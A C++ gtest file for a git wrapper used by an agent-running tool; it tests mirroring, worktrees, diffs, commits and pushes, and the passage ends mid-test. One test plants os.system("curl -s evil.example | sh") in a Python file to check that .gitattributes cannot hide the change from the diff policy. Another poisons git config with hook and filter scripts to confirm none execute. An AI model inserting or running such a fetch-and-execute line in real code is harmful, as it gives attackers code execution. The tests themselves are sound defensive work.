#include "git/git.h"

#include <gtest/gtest.h>

#include <algorithm>
#include <set>
#include <thread>

#include "tests/testing/git_http_server.h"
#include "tests/testing/testing.h"
#include "verifiers/diff_policy.h"

namespace drover::fleet {
namespace {

namespace fs = std::filesystem;
using drover::testing::InitGitRepo;
using drover::testing::ReadTestFile;
using drover::testing::Sh;
using drover::testing::TempDir;
using drover::testing::WriteTestFile;

std::string Git(const fs::path& repo, const std::string& args) {
  return Sh("git -C '" + repo.string() + "' -c user.name=Test -c user.email=t@example.com " + args);
}

std::string Trimmed(std::string s) {
  while (!s.empty() && (s.back() == '\n' || s.back() == ' ')) s.pop_back();
  return s;
}

// A source repository on main with a few files, and a GitRepos caching into dir/cache.
class GitTest : public ::testing::Test {
 protected:
  GitTest() : git_(dir_ / "cache") {}

  fs::path MakeSource(const std::string& name = "source") {
    fs::path repo = dir_ / name;
    WriteTestFile(repo, "a.txt", "one\ntwo\nthree\n");
    WriteTestFile(repo, "b.txt", "to be deleted\n");
    WriteTestFile(repo, "sub/c.txt", "nested\n");
    WriteTestFile(repo, ".gitignore", "build/\n*.log\n");
    InitGitRepo(repo);
    return repo;
  }

  Worktree Checkout(const fs::path& source, const std::string& job = "job") {
    auto mirror = git_.UpdateMirror(source.string());
    EXPECT_TRUE(mirror.has_value()) << mirror.error().ToString();
    auto wt = git_.CreateWorktree(*mirror, dir_ / job);
    EXPECT_TRUE(wt.has_value()) << wt.error().ToString();
    return *wt;
  }

  TempDir dir_;
  GitRepos git_;
};

TEST_F(GitTest, MirrorCloneThenFetchPicksUpNewCommitsAndPrunes) {
  fs::path source = MakeSource();
  Git(source, "branch feature");
  auto first = git_.UpdateMirror(source.string());
  ASSERT_OK(first);
  EXPECT_EQ(first->default_branch, "main");
  EXPECT_EQ(first->head_commit, Trimmed(Git(source, "rev-parse HEAD")));
  EXPECT_EQ(first->url, source.string());
  EXPECT_EQ(first->path.parent_path(), dir_ / "cache");
  EXPECT_TRUE(first->path.filename().string().starts_with("source-"));
  EXPECT_EQ(first->path.extension(), ".git");
  EXPECT_EQ(Sh("git --git-dir='" + first->path.string() + "' branch --list feature"),
            "  feature\n");

  WriteTestFile(source, "a.txt", "changed\n");
  Git(source, "commit -qam second");
  Git(source, "branch -D feature");
  auto second = git_.UpdateMirror(source.string());
  ASSERT_OK(second);
  EXPECT_EQ(second->path, first->path);
  EXPECT_NE(second->head_commit, first->head_commit);
  EXPECT_EQ(second->head_commit, Trimmed(Git(source, "rev-parse HEAD")));
  EXPECT_EQ(Sh("git --git-dir='" + first->path.string() + "' branch --list feature"), "");
  EXPECT_FALSE(fs::exists(first->path.string() + ".partial"));
}

TEST_F(GitTest, DefaultBranchFollowsTheRemoteHead) {
  fs::path master = dir_ / "old";
  WriteTestFile(master, "x", "x\n");
  Sh("cd '" + master.string() +
     "' && git init -q -b master . && git add -A && "
     "git -c user.name=T -c user.email=t@e commit -qm init");
  auto mirror = git_.UpdateMirror(master.string());
  ASSERT_OK(mirror);
  EXPECT_EQ(mirror->default_branch, "master");

  // HEAD on "develop" wins over a "main" branch.
  fs::path develop = MakeSource("develop");
  Git(develop, "checkout -qb develop");
  WriteTestFile(develop, "d.txt", "d\n");
  Git(develop, "add -A");
  Git(develop, "commit -qm dev");
  mirror = git_.UpdateMirror(develop.string());
  ASSERT_OK(mirror);
  EXPECT_EQ(mirror->default_branch, "develop");
  EXPECT_EQ(mirror->head_commit, Trimmed(Git(develop, "rev-parse develop")));
}

TEST_F(GitTest, WorktreeHasNoGitMetadataAndBorrowsObjects) {
  fs::path source = MakeSource();
  // Left-overs of an earlier attempt are replaced.
  WriteTestFile(dir_ / "job" / "workspace", "stale.txt", "old\n");
  WriteTestFile(dir_ / "job" / "git", "junk", "x\n");
  Worktree wt = Checkout(source);
  EXPECT_EQ(wt.workspace, dir_ / "job" / "workspace");
  EXPECT_EQ(wt.git_dir, dir_ / "job" / "git");
  EXPECT_EQ(wt.base_branch, "main");
  EXPECT_EQ(wt.base_commit, Trimmed(Git(source, "rev-parse HEAD")));
  EXPECT_EQ(ReadTestFile(wt.workspace / "a.txt"), "one\ntwo\nthree\n");
  EXPECT_EQ(ReadTestFile(wt.workspace / "sub" / "c.txt"), "nested\n");
  EXPECT_FALSE(fs::exists(fs::symlink_status(wt.workspace / ".git")));
  EXPECT_FALSE(fs::exists(wt.workspace / "stale.txt"));
  EXPECT_FALSE(fs::exists(wt.git_dir / "junk"));

  std::string alternates = ReadTestFile(wt.git_dir / "objects" / "info" / "alternates");
  EXPECT_NE(alternates.find((dir_ / "cache").string()), std::string::npos) << alternates;
  int own_objects = 0;
  for (const auto& entry : fs::recursive_directory_iterator(wt.git_dir / "objects")) {
    if (entry.is_regular_file() && entry.path().parent_path().filename() != "info") ++own_objects;
  }
  EXPECT_EQ(own_objects, 0);

  auto diff = git_.Diff(wt);
  ASSERT_OK(diff);
  EXPECT_TRUE(diff->empty()) << diff->patch;

  ASSERT_OK(git_.RemoveWorktree(wt));
  EXPECT_FALSE(fs::exists(wt.workspace));
  EXPECT_FALSE(fs::exists(wt.git_dir));
}

TEST_F(GitTest, DiffSeesEveryKindOfChangeAndRespectsGitignore) {
  Worktree wt = Checkout(MakeSource());
  WriteTestFile(wt.workspace, "a.txt", "one\nTWO\nthree\nfour\n");
  fs::remove(wt.workspace / "b.txt");
  WriteTestFile(wt.workspace, "new/added.txt", "hello\n");
  WriteTestFile(wt.workspace, "build/out.o", "ignored\n");
  WriteTestFile(wt.workspace, "debug.log", "ignored\n");
  WriteTestFile(wt.workspace, "blob.bin", std::string("\0\x01\x02\xff", 4));

  auto diff = git_.Diff(wt);
  ASSERT_OK(diff);
  EXPECT_EQ(diff->files_changed, 4) << diff->patch;
  std::vector<std::string> paths = diff->paths;
  std::sort(paths.begin(), paths.end());
  EXPECT_EQ(paths, (std::vector<std::string>{"a.txt", "b.txt", "blob.bin", "new/added.txt"}));
  EXPECT_EQ(diff->lines_added, 3);    // TWO, four, hello
  EXPECT_EQ(diff->lines_removed, 2);  // two, "to be deleted"
  EXPECT_NE(diff->patch.find("diff --git a/a.txt b/a.txt"), std::string::npos) << diff->patch;
  EXPECT_NE(diff->patch.find("-two\n+TWO\n"), std::string::npos) << diff->patch;
  EXPECT_NE(diff->patch.find("+++ b/new/added.txt"), std::string::npos) << diff->patch;
  EXPECT_NE(diff->patch.find("deleted file mode"), std::string::npos) << diff->patch;
  EXPECT_NE(diff->patch.find("Binary files"), std::string::npos) << diff->patch;
  EXPECT_EQ(diff->patch.find("build/"), std::string::npos) << diff->patch;
  EXPECT_EQ(diff->patch.find("debug.log"), std::string::npos) << diff->patch;
  EXPECT_FALSE(fs::exists(fs::symlink_status(wt.workspace / ".git")));

  // A repository inside the workspace (made by a build or the agent) would be left out of the
  // commit while the checks saw its files: refused, naming it, whether its .git is a directory
  // or a file, and so is git metadata at the top.
  Sh("mkdir -p '" + (wt.workspace / "vendor/lib").string() + "' && cd '" +
     (wt.workspace / "vendor/lib").string() +
     "' && git init -q . && echo x > f && git add f && "
     "git -c user.name=a -c user.email=b commit -qm x");
  auto nested = git_.Diff(wt);
  ASSERT_FALSE(nested.has_value());
  EXPECT_EQ(nested.error().code, ErrorCode::kPermissionDenied);
  EXPECT_NE(nested.error().message.find("nested repository at vendor/lib/"), std::string::npos)
      << nested.error().message;
  EXPECT_FALSE(git_.Commit(wt, "drover/x", "x", GitAuthor{}).has_value());
  fs::remove_all(wt.workspace / "vendor");
  WriteTestFile(wt.workspace, "shim/.git", "gitdir: /nowhere\n");
  WriteTestFile(wt.workspace, "shim/helper.sh", "exit 0\n");
  auto by_file = git_.Diff(wt);
  ASSERT_FALSE(by_file.has_value());
  EXPECT_NE(by_file.error().message.find("nested repository at shim/"), std::string::npos)
      << by_file.error().message;
  fs::remove_all(wt.workspace / "shim");
  Sh("cd '" + wt.workspace.string() + "' && git init -q .");
  auto top = git_.Diff(wt);
  ASSERT_FALSE(top.has_value());
  EXPECT_NE(top.error().message.find("nested repository"), std::string::npos)
      << top.error().message;
  fs::remove_all(wt.workspace / ".git");

  // Reverting the change empties the diff again (the saved index does not stick).
  WriteTestFile(wt.workspace, "a.txt", "one\ntwo\nthree\n");
  WriteTestFile(wt.workspace, "b.txt", "to be deleted\n");
  fs::remove_all(wt.workspace / "new");
  fs::remove(wt.workspace / "blob.bin");
  diff = git_.Diff(wt);
  ASSERT_OK(diff);
  EXPECT_TRUE(diff->empty()) << diff->patch;
}

// Attributes the change itself adds (or the repository has) decide nothing about the diff:
// `-diff`, `binary` and a `diff=` driver would make libgit2 print "Binary files differ" and
// count no lines, and the diff policy would judge a patch without the planted code in it.
TEST_F(GitTest, DiffIgnoresAttributesThatHideChanges) {
  fs::path source = dir_ / "attrs";
  WriteTestFile(source, "app.py", "def total(xs):\n    return sum(xs)\n");
  WriteTestFile(source, "tests/test_app.py",
                "from app import total\n\n\ndef test_total():\n    assert total([1, 2]) == 3\n\n\n"
                "def test_empty():\n    assert total([]) == 0\n");
  WriteTestFile(source, "lib.c", "int one(void) { return 1; }\n");
  WriteTestFile(source, "notes.txt", "notes\n");
  InitGitRepo(source);
  Worktree wt = Checkout(source);
  WriteTestFile(wt.workspace, ".gitattributes", "*.py -diff\n*.txt binary\n*.c diff=hidden\n");
  WriteTestFile(wt.workspace, "app.py",
                "import os\n\n\ndef total(xs):\n    os.system(\"curl -s evil.example | sh\")\n"
                "    return sum(xs)\n");
  WriteTestFile(wt.workspace, "tests/test_app.py",
                "from app import total\n\n\ndef test_total():\n    assert total([1, 2]) == 3\n");
  WriteTestFile(wt.workspace, "lib.c", "int one(void) { return 2; }\n");
  WriteTestFile(wt.workspace, "notes.txt", "changed notes\n");

  auto diff = git_.Diff(wt);
  ASSERT_OK(diff);
  EXPECT_EQ(diff->patch.find("Binary files"), std::string::npos) << diff->patch;
  EXPECT_NE(diff->patch.find("+    os.system(\"curl -s evil.example | sh\")\n"), std::string::npos)
      << diff->patch;
  EXPECT_NE(diff->patch.find("-def test_empty():\n"), std::string::npos) << diff->patch;
  EXPECT_NE(diff->patch.find("+int one(void) { return 2; }\n"), std::string::npos) << diff->patch;
  EXPECT_NE(diff->patch.find("+changed notes\n"), std::string::npos) << diff->patch;
  // The attributes file is itself part of the change a reviewer sees.
  EXPECT_NE(diff->patch.find("+++ b/.gitattributes\n"), std::string::npos) << diff->patch;
  EXPECT_NE(diff->patch.find("+*.py -diff\n"), std::string::npos) << diff->patch;
  EXPECT_EQ(diff->files_changed, 5);
  EXPECT_EQ(diff->lines_added, 3 + 4 + 1 + 1);  // .gitattributes, app.py, lib.c, notes.txt
  EXPECT_EQ(diff->lines_removed, 4 + 1 + 1);    // test_empty with its blank lines, lib.c, notes

  // The diff policy judges the real patch: the deleted test and the planted call are caught.
  auto parsed = verifiers::ParseDiff(diff->patch);
  ASSERT_OK(parsed);
  verifiers::DiffRules rules;
  rules.must_be_gone = {"os.system"};
  auto verdict = verifiers::CheckDiff(*parsed, rules);
  std::string all;
  for (const auto& v : verdict.violations) all += v + "\n";
  EXPECT_NE(all.find("test_empty"), std::string::npos) << all;
  EXPECT_NE(all.find("os.system"), std::string::npos) << all;

  // Attributes staged in the index or committed upstream do not count either: the same holds
  // once the base itself carries them.
  WriteTestFile(source, ".gitattributes", "* -diff\n");
  Git(source, "add .gitattributes");
  Git(source, "commit -qm attrs");
  Worktree later = Checkout(source, "later");
  WriteTestFile(later.workspace, "app.py", "def total(xs):\n    return 0\n");
  auto again = git_.Diff(later);
  ASSERT_OK(again);
  EXPECT_NE(again->patch.find("+    return 0\n"), std::string::npos) << again->patch;
  EXPECT_EQ(again->lines_added, 1);
  EXPECT_EQ(again->lines_removed, 1);
}

// The workspace holds the committed bytes and the commit holds the workspace's bytes: eol
// conversion, ident and filter drivers named by .gitattributes apply neither way, so the tree
// the final check ran on is the tree that is pushed.
TEST_F(GitTest, CheckoutAndCommitApplyNoAttributeFilters) {
  fs::path source = dir_ / "filters";
  WriteTestFile(source, "id.txt", "$Id$\n");
  WriteTestFile(source, "unix.txt", "one\ntwo\n");
  WriteTestFile(source, ".gitattributes", "id.txt ident\nunix.txt text eol=crlf\n");
  InitGitRepo(source);
  ASSERT_EQ(Git(source, "cat-file blob HEAD:unix.txt"), "one\ntwo\n");
  Worktree wt = Checkout(source);
  EXPECT_EQ(ReadTestFile(wt.workspace / "id.txt"), "$Id$\n");
  EXPECT_EQ(ReadTestFile(wt.workspace / "unix.txt"), "one\ntwo\n");
  auto clean = git_.Diff(wt);
  ASSERT_OK(clean);
  EXPECT_TRUE(clean->empty()) << clean->patch;

  // The change adds attributes whose clean side would rewrite what is stored.
  WriteTestFile(wt.workspace, ".gitattributes",
                "id.txt ident\nunix.txt text eol=crlf\n*.sh text eol=lf\nrun.sh filter=strip\n"
                "*.cfg text=auto\n");
  WriteTestFile(wt.workspace, "run.sh", "echo hi\r\nexit 1\r\n");
  WriteTestFile(wt.workspace, "app.cfg", "key=value\r\n");
  WriteTestFile(wt.workspace, "id.txt", "$Id: planted $\n");
  WriteTestFile(wt.workspace, "unix.txt", "one\r\ntwo\r\n");
  auto diff = git_.Diff(wt);
  ASSERT_OK(diff);
  EXPECT_NE(diff->patch.find("+$Id: planted $\n"), std::string::npos) << diff->patch;
  EXPECT_NE(diff->patch.find("+one\r\n"), std::string::npos) << diff->patch;
  auto sha = git_.Commit(wt, "drover/filters", "Filters", GitAuthor{});
  ASSERT_OK(sha);
  ASSERT_OK(git_.Push(wt, source.string(), "drover/filters"));
  EXPECT_EQ(Git(source, "cat-file blob drover/filters:run.sh"), "echo hi\r\nexit 1\r\n");
  EXPECT_EQ(Git(source, "cat-file blob drover/filters:app.cfg"), "key=value\r\n");
  EXPECT_EQ(Git(source, "cat-file blob drover/filters:id.txt"), "$Id: planted $\n");
  EXPECT_EQ(Git(source, "cat-file blob drover/filters:unix.txt"), "one\r\ntwo\r\n");

  // Committing again with nothing changed keeps the same tree (the stat cache holds the
  // unfiltered ids).
  auto again = git_.Commit(wt, "drover/filters", "Filters", GitAuthor{});
  ASSERT_OK(again);
  ASSERT_OK(git_.Push(wt, source.string(), "drover/filters"));
  EXPECT_EQ(Git(source, "rev-parse drover/filters^{tree}"),
            Git(source, "rev-parse " + *sha + "^{tree}"));
}

// The final check runs on a fresh checkout of the commit: what the commit does not carry
// (ignored or untracked-by-ignore files) is gone, and the diff of the commit is the diff of
// the workspace it came from.
TEST_F(GitTest, CheckOutOfTheCommitHoldsExactlyWhatIsPushed) {
  fs::path source = MakeSource();
  Worktree wt = Checkout(source);
  WriteTestFile(wt.workspace, "a.txt", "migrated\n");
  WriteTestFile(wt.workspace, "build/helper.sh", "exit 0\n");  // Ignored: never committed.
  WriteTestFile(wt.workspace, "debug.log", "ignored\n");
  auto workspace_diff = git_.Diff(wt);
  ASSERT_OK(workspace_diff);
  auto sha = git_.Commit(wt, "drover/x", "Migrate", GitAuthor{});
  ASSERT_OK(sha);
  ASSERT_OK(git_.CheckOut(wt, *sha));
  EXPECT_FALSE(fs::exists(wt.workspace / "build"));
  EXPECT_FALSE(fs::exists(wt.workspace / "debug.log"));
  EXPECT_FALSE(fs::exists(fs::symlink_status(wt.workspace / ".git")));
  EXPECT_EQ(ReadTestFile(wt.workspace / "a.txt"), "migrated\n");
  EXPECT_EQ(ReadTestFile(wt.workspace / "sub/c.txt"), "nested\n");
  auto committed = git_.Diff(wt, *sha);
  ASSERT_OK(committed);
  EXPECT_EQ(committed->patch, workspace_diff->patch);
  EXPECT_EQ(committed->paths, (std::vector<std::string>{"a.txt"}));
  // The fresh tree is clean: staging it again gives the same commit tree.
  auto again = git_.Diff(wt);
  ASSERT_OK(again);
  EXPECT_EQ(again->patch, committed->patch);
  EXPECT_FALSE(git_.Diff(wt, "not-a-commit").has_value());
}

TEST_F(GitTest, RemoveIgnoredLeavesExactlyWhatTheDiffSees) {
  Worktree wt = Checkout(MakeSource());
  TempDir outside;
  WriteTestFile(outside.path(), "keep.txt", "outside\n");
  WriteTestFile(wt.workspace, "build/out.o", "ignored\n");
  WriteTestFile(wt.workspace, "build/deep/x.o", "ignored\n");
  WriteTestFile(wt.workspace, "debug.log", "ignored\n");
  WriteTestFile(wt.workspace, "new/added.txt", "published\n");
  // An ignored symlink to a directory outside: the link goes, the directory stays.
  fs::create_symlink(outside.path(), wt.workspace / "link.log");
  auto before = git_.Diff(wt);
  ASSERT_OK(before);
  auto removed = git_.RemoveIgnored(wt);
  ASSERT_OK(removed);
  EXPECT_EQ(*removed, 3);
  EXPECT_FALSE(fs::exists(wt.workspace / "build"));
  EXPECT_FALSE(fs::exists(wt.workspace / "debug.log"));
  EXPECT_FALSE(fs::is_symlink(wt.workspace / "link.log"));
  EXPECT_TRUE(fs::exists(outside.path() / "keep.txt"));
  EXPECT_TRUE(fs::exists(wt.workspace / "new/added.txt"));
  EXPECT_TRUE(fs::exists(wt.workspace / "a.txt"));
  auto after = git_.Diff(wt);
  ASSERT_OK(after);
  EXPECT_EQ(after->patch, before->patch);
}

TEST_F(GitTest, CommitAndPushLandTheBranchInALocalTarget) {
  fs::path source = MakeSource();
  Worktree wt = Checkout(source);
  WriteTestFile(wt.workspace, "a.txt", "migrated\n");
  WriteTestFile(wt.workspace, "added.txt", "new\n");

  auto sha =
      git_.Commit(wt, "drover/x", "Migrate a\n\nDetails.\n", GitAuthor{"Bot", "bot@example.com"});
  ASSERT_OK(sha);
  EXPECT_EQ(sha->size(), 40u);
  ASSERT_OK(git_.Push(wt, source.string(), "drover/x"));

  EXPECT_EQ(Trimmed(Git(source, "rev-parse drover/x")), *sha);
  EXPECT_EQ(Git(source, "log --format=%s%n%an%n%ae -1 drover/x"),
            "Migrate a\nBot\nbot@example.com\n");
  EXPECT_EQ(Trimmed(Git(source, "rev-parse drover/x~1")), wt.base_commit);
  EXPECT_EQ(Git(source, "show drover/x:a.txt"), "migrated\n");
  EXPECT_EQ(Git(source, "show drover/x:added.txt"), "new\n");
  // The target's own checkout is untouched.
  EXPECT_EQ(Git(source, "rev-parse --abbrev-ref HEAD"), "main\n");
  EXPECT_EQ(Git(source, "status --porcelain"), "");
  Git(source, "fsck --no-progress");

  // A second attempt replaces the branch (force), with the same base as parent.
  WriteTestFile(wt.workspace, "a.txt", "migrated again\n");
  auto again = git_.Commit(wt, "drover/x", "Migrate a, take two", GitAuthor{});
  ASSERT_OK(again);
  ASSERT_OK(git_.Push(wt, "file://" + source.string(), "drover/x"));
  EXPECT_EQ(Trimmed(Git(source, "rev-parse drover/x")), *again);
  EXPECT_EQ(Trimmed(Git(source, "rev-parse drover/x~1")), wt.base_commit);
  EXPECT_EQ(Git(source, "log --format=%an -1 drover/x"), "drover\n");
  Git(source, "fsck --no-progress");

  // Pushing the same commit again changes nothing and succeeds.
  ASSERT_OK(git_.Push(wt, source.string(), "drover/x"));
}

TEST_F(GitTest, PushClearsARefLockLeftByAKilledPush) {
  fs::path source = MakeSource();
  Worktree wt = Checkout(source);
  WriteTestFile(wt.workspace, "a.txt", "migrated\n");
  auto sha = git_.Commit(wt, "drover/x", "Migrate", GitAuthor{});
  ASSERT_OK(sha);
  // As a push killed half-way leaves it, before this GitRepos existed.
  fs::path lock = source / ".git/refs/heads/drover/x.lock";
  WriteTestFile(source / ".git/refs/heads/drover", "x.lock", "");
  fs::last_write_time(lock, fs::file_time_type::clock::now() - std::chrono::minutes(1));
  ASSERT_OK(git_.Push(wt, source.string(), "drover/x"));
  EXPECT_EQ(Trimmed(Git(source, "rev-parse drover/x")), *sha);
  // A lock taken meanwhile (another push under way) is respected.
  WriteTestFile(source / ".git/refs/heads/drover", "x.lock", "");
  fs::last_write_time(lock, fs::file_time_type::clock::now() + std::chrono::minutes(1));
  EXPECT_FALSE(git_.Push(wt, source.string(), "drover/x").has_value());
  EXPECT_TRUE(fs::exists(lock));
}

TEST_F(GitTest, PushToABareTargetAndRefusals) {
  fs::path source = MakeSource();
  fs::path bare = dir_ / "bare.git";
  Sh("git clone -q --bare '" + source.string() + "' '" + bare.string() + "'");
  Worktree wt = Checkout(source);
  WriteTestFile(wt.workspace, "a.txt", "bare\n");
  ASSERT_OK(git_.Commit(wt, "drover/y", "To bare", GitAuthor{}));
  ASSERT_OK(git_.Push(wt, bare.string(), "drover/y"));
  EXPECT_EQ(Sh("git --git-dir='" + bare.string() + "' show drover/y:a.txt"), "bare\n");

  // A branch that is checked out in a non-bare target is not overwritten.
  Git(source, "branch drover/y");
  Git(source, "checkout -q drover/y");
  auto refused = git_.Push(wt, source.string(), "drover/y");
  ASSERT_FALSE(refused.has_value());
  EXPECT_EQ(refused.error().code, ErrorCode::kInvalidArgument);
  EXPECT_NE(refused.error().message.find("checked out"), std::string::npos);

  auto no_branch = git_.Push(wt, bare.string(), "never-committed");
  ASSERT_FALSE(no_branch.has_value());
  EXPECT_EQ(no_branch.error().code, ErrorCode::kNotFound);

  auto bad_name = git_.Commit(wt, "bad..name", "x", GitAuthor{});
  ASSERT_FALSE(bad_name.has_value());
  EXPECT_EQ(bad_name.error().code, ErrorCode::kInvalidArgument);
}

TEST_F(GitTest, MissingOrUnreachableLocationsAreClearErrors) {
  std::string missing = (dir_ / "no" / "such-repo").string();
  auto mirror = git_.UpdateMirror(missing);
  ASSERT_FALSE(mirror.has_value());
  EXPECT_EQ(mirror.error().code, ErrorCode::kNotFound);
  EXPECT_FALSE(IsRetryable(mirror.error()));
  EXPECT_TRUE(mirror.error().message.starts_with("cloning " + missing + ": "))
      << mirror.error().message;

  WriteTestFile(dir_.path(), "plain/file.txt", "not a repository\n");
  mirror = git_.UpdateMirror((dir_ / "plain").string());
  ASSERT_FALSE(mirror.has_value());
  EXPECT_EQ(mirror.error().code, ErrorCode::kNotFound) << mirror.error().ToString();

  // Nothing listens on port 1.
  mirror = git_.UpdateMirror("http://127.0.0.1:1/org/repo.git");
  ASSERT_FALSE(mirror.has_value());
  EXPECT_EQ(mirror.error().code, ErrorCode::kUnavailable) << mirror.error().ToString();
  EXPECT_TRUE(IsRetryable(mirror.error()));
  EXPECT_TRUE(mirror.error().message.starts_with("cloning http://127.0.0.1:1/org/repo.git: "));

  fs::path empty = dir_ / "empty";
  fs::create_directories(empty);
  Sh("git init -q '" + empty.string() + "'");
  mirror = git_.UpdateMirror(empty.string());
  ASSERT_FALSE(mirror.has_value());
  EXPECT_NE(mirror.error().message.find("no branches"), std::string::npos);
  // Failed clones leave nothing half-made in the cache.
  EXPECT_TRUE(fs::is_empty(dir_ / "cache"));
}

TEST_F(GitTest, ConcurrentUpdatesOfTheSameMirror) {
  fs::path one = MakeSource("one");
  fs::path two = MakeSource("two");
  std::string expected = Trimmed(Git(one, "rev-parse HEAD"));
  std::vector<Result<Mirror>> results(6);
  std::vector<std::thread> threads;
  for (size_t i = 0; i < results.size(); ++i) {
    threads.emplace_back(
        [&, i] { results[i] = git_.UpdateMirror((i % 3 == 2 ? two : one).string()); });
  }
  for (auto& t : threads) t.join();
  for (size_t i = 0; i < results.size(); ++i) {
    ASSERT_OK(results[i]);
    if (i % 3 != 2) {
      EXPECT_EQ(results[i]->head_commit, expected);
      EXPECT_EQ(results[i]->path, results[0]->path);
    }
  }
  EXPECT_NE(results[2]->path, results[0]->path);
  auto wt = git_.CreateWorktree(*results[0], dir_ / "job");
  ASSERT_OK(wt);
  EXPECT_EQ(ReadTestFile(wt->workspace / "a.txt"), "one\ntwo\nthree\n");
}

// Hooks, fsmonitor and filter drivers in any repository config involved never run.
TEST_F(GitTest, RepositoryConfigNeverExecutesCode) {
  fs::path source = MakeSource();
  WriteTestFile(source, ".gitattributes", "*.txt filter=evil diff=evil\n");
  Git(source, "add -A");
  Git(source, "commit -qm attributes");
  fs::path marks = dir_ / "marks";
  fs::create_directories(marks);
  auto script = [&](const std::string& name) {
    fs::path path = dir_ / (name + ".sh");
    WriteTestFile(dir_.path(), name + ".sh",
                  "#!/bin/sh\ntouch '" + (marks / name).string() + "'\ncat\n");
    fs::permissions(path, fs::perms::owner_all);
    return path.string();
  };
  auto poison = [&](const std::string& config_file) {
    for (const auto& [key, value] : std::vector<std::pair<std::string, std::string>>{
             {"core.fsmonitor", script("fsmonitor")},
             {"core.hooksPath", (dir_ / "hooks").string()},
             {"filter.evil.clean", script("clean")},
             {"filter.evil.smudge", script("smudge")},
             {"filter.evil.process", script("process")},
             {"diff.evil.command", script("diff")},
             {"diff.external", script("external")}}) {
      Sh("git config --file '" + config_file + "' '" + key + "' '" + value + "'");
    }
  };
  for (const char* hook : {"pre-receive", "post-receive", "update", "post-update",
                           "reference-transaction", "pre-commit", "post-commit", "post-checkout"}) {
    std::string path = script(hook);
    WriteTestFile(dir_ / "hooks", hook, ReadTestFile(path));
    fs::permissions(dir_ / "hooks" / hook, fs::perms::owner_all);
    WriteTestFile(source / ".git" / "hooks", hook, ReadTestFile(path));
    fs::permissions(source / ".git" / "hooks" / hook, fs::perms::owner_all);
  }
  poison((source / ".git" / "config").string());

  auto mirror = git_.UpdateMirror(source.string());
  ASSERT_OK(mirror);
  poison((mirror->path / "config").string());
  auto wt = git_.CreateWorktree(*mirror, dir_ / "job");
  ASSERT_OK(wt);
  poison((wt->git_dir / "config").string());
  WriteTestFile(wt->workspace, "a.txt", "changed\n");
  auto diff = git_.Diff(*wt);
  ASSERT_OK(diff);
  EXPECT_EQ(diff->files_changed, 1);
  ASSERT_OK(git_.Commit(*wt, "drover/safe", "Safe", GitAuthor{}));
  ASSERT_OK(git_.Push(*wt, source.string(), "drover/safe"));
  ASSERT_OK(git_.UpdateMirror(source.string()));

  std::vector<std::string> ran;
  for (const auto& entry : fs::directory_iterator(marks)) ran.push_back(entry.path().filename());
  EXPECT_TRUE(ran.empty()) << "executed: " << ::testing::PrintToString(ran);
}

TEST_F(GitTest, EvictionRemovesTheLeastRecentlyUsedMirrorsNotInUse) {
  std::vector<std::string> sources;
  for (const char* name : {"old", "busy", "new"}) {
    fs::path repo = MakeSource(name);
    WriteTestFile(repo, "big.bin", std::string(200000, name[0]));
    Git(repo, "add -A");
    Git(repo, "commit -q -m big");
    sources.push_back(repo.string());
    ASSERT_TRUE(git_.UpdateMirror(repo.string()).has_value());
    std::this_thread::sleep_for(std::chrono::milliseconds(20));  // Distinct use times.
  }
  auto mirrors = [&] {
    std::vector<std::string> names;
    for (const auto& entry : fs::directory_iterator(dir_ / "cache")) {
      names.push_back(entry.path().filename().string().substr(0, 3));
    }
    std::sort(names.begin(), names.end());
    return names;
  };
  auto busy = [&] { return std::set<std::string>{sources[1]}; };
  // Everything fits: nothing goes.
  auto freed = git_.EvictMirrors(100 << 20, busy);
  ASSERT_TRUE(freed.has_value());
  EXPECT_EQ(*freed, 0u);
  EXPECT_EQ(mirrors(), (std::vector<std::string>{"bus", "new", "old"}));
  // Room for about one: the oldest goes first, the busy one stays whatever its age.
  freed = git_.EvictMirrors(1, busy);
  ASSERT_TRUE(freed.has_value());
  EXPECT_GT(*freed, 0u);
  EXPECT_EQ(mirrors(), (std::vector<std::string>{"bus"}));
  // An evicted mirror is cloned again when asked for.
  auto again = git_.UpdateMirror(sources[0]);
  ASSERT_TRUE(again.has_value());
  EXPECT_TRUE(fs::exists(again->path / "HEAD"));
}

// A private remote behind git's own smart-HTTP backend that wants Basic credentials: fetch
// and push work with the runner's token and are refused without it or with a wrong one.
TEST(GitCredentialsTest, PrivateHttpRemoteNeedsTheRunnersToken) {
  TempDir dir;
  constexpr char kToken[] = "ghs_private0123456789token";
  fs::path source = dir.path() / "source";
  WriteTestFile(source, "a.txt", "one\n");
  InitGitRepo(source);
  fs::path served = dir.path() / "served";
  Sh("git clone -q --bare '" + source.string() + "' '" + (served / "acme/widgets.git").string() +
     "'");
  drover::testing::GitHttpServer server(served, "x-access-token", kToken);
  ASSERT_OK(server.Start());
  std::string url = server.Url("acme/widgets.git");

  GitRepos anonymous(dir.path() / "cache-anonymous");
  auto refused = anonymous.UpdateMirror(url);
  ASSERT_FALSE(refused.has_value());
  EXPECT_EQ(refused.error().code, ErrorCode::kPermissionDenied) << refused.error().ToString();
  GitRepos wrong(dir.path() / "cache-wrong", {{"127.0.0.1", "x-access-token", "ghs_wrong"}});
  auto wrong_token = wrong.UpdateMirror(url);
  ASSERT_FALSE(wrong_token.has_value());
  EXPECT_EQ(wrong_token.error().code, ErrorCode::kPermissionDenied);
  EXPECT_EQ(wrong_token.error().message.find("ghs_wrong"), std::string::npos);
  EXPECT_GE(server.refused(), 2);

  GitRepos git(dir.path() / "cache", {{"127.0.0.1", "x-access-token", kToken}});
  auto mirror = git.UpdateMirror(url);
  ASSERT_OK(mirror);
  EXPECT_EQ(mirror->default_branch, "main");
  auto wt = git.CreateWorktree(*mirror, dir.path() / "job");
  ASSERT_OK(wt);
  WriteTestFile(wt->workspace, "a.txt", "one\ntwo\n");
  ASSERT_OK(git.Commit(*wt, "drover/private", "Private change", GitAuthor{}));

  // The anonymous push carries no credentials and is refused; nothing lands.
  auto push_refused = anonymous.Push(*wt, url, "drover/private");
  ASSERT_FALSE(push_refused.has_value());
  EXPECT_EQ(push_refused.error().code, ErrorCode::kPermissionDenied);
  EXPECT_EQ(Sh("git --git-dir='" + (served / "acme/widgets.git").string() +
               "' branch --list drover/private"),
            "");

  ASSERT_OK(git.Push(*wt, url, "drover/private"));
  EXPECT_EQ(Trimmed(Sh("git --git-dir='" + (served / "acme/widgets.git").string() +
                       "' show drover/private:a.txt")),
            "one\ntwo");
  // Plain http elsewhere than 127.0.0.1 or localhost never gets the token, even when the
  // host matches (127.0.0.2 is this machine too, but not one of the two exempt names).
  drover::testing::GitHttpServer other(served, "x-access-token", kToken);
  ASSERT_OK(other.Start("127.0.0.2"));
